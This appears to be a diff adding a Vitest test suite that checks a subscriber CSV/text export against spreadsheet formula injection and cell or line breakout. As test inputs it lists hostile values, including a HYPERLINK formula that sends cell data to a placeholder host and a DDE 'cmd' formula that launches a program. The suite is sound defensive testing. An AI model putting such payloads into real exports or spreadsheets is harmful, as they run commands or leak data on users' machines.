@@ -1,0 +1,66 @@
+import { text } from 'node:stream/consumers';
+import { expect, it } from 'vitest';
+import { newId } from '#platform/identifiers.ts';
+import { SYSTEM_ACTOR } from '#platform/services.ts';
+import { describeOnEachDatabase } from '#tests/support/world.ts';
+import { exportSubscribers } from './export-subscribers.ts';
+import { subscribe } from './subscribe.ts';
+
+describeOnEachDatabase('an address made to do harm in a spreadsheet', (world) => {
+  const exported = async () => {
+    const csv = await text(await exportSubscribers(world().services, SYSTEM_ACTOR, 'csv'));
+    return csv.slice(csv.indexOf('\r\n') + 2);
+  };
+  /** As if it had come into the database by another way than the form, which takes hardly any of these. */
+  const kept = (email: string) =>
+    world()
+      .services.db.insertInto('subscribers')
+      .values({ id: newId(), email, email_key: email, created_at: '2026-01-12T08:00:00.000Z' })
+      .execute();
+
+  it.each(['+33612345678@exemple.org', '-1+1@exemple.org'])(
+    'is taken by the form, being an address, and is text in the table: %s',
+    async (email) => {
+      await subscribe(world().services, { email, address: '203.0.113.7' });
+      expect(await exported()).toBe(`"'${email}";"02/03/2026"\r\n`);
+      expect(await text(await exportSubscribers(world().services, SYSTEM_ACTOR, 'txt'))).toBe(`${email}\n`);
+    },
+  );
+
+  it.each([
+    '=HYPERLINK("https://exemple.example/?"&A1;"Ouvrir")',
+    "=cmd|'/C calc'!A0",
+    '@SUM(A1:A9)',
+    '\t=1+1',
+    '\r=1+1',
+    '\u200b=1+1',
+    '＝1+1',
+    '－1+1',
+  ])('is never a formula: %j', async (email) => {
+    await kept(email);
+    expect(await exported()).toBe(`"'${email.replaceAll('"', '""')}";"12/01/2026"\r\n`);
+  });
+
+  it.each([
+    'a@exemple.org;=1+1',
+    'a@exemple.org,=1+1',
+    'a@exemple.org\t=1+1',
+    'a@exemple.org";"=1+1',
+    'a@exemple.org"\r\n"=1+1',
+    'a@exemple.org\n=1+1',
+  ])('never leaves its cell: %j', async (email) => {
+    await kept(email);
+    // Between its quotes there is no other quote than doubled ones: no reader of RFC 4180 ends the cell there.
+    expect(await exported()).toBe(`"${email.replaceAll('"', '""')}";"12/01/2026"\r\n`);
+  });
+
+  it.each(['a@exemple.org\nb@exemple.org', 'a@exemple.org\r\nb@exemple.org'])(
+    'is one line of the list of addresses: %j',
+    async (email) => {
+      await kept(email);
+      expect(await text(await exportSubscribers(world().services, SYSTEM_ACTOR, 'txt'))).toBe(
+        'a@exemple.org b@exemple.org\n',
+      );
+    },
+  );
+});
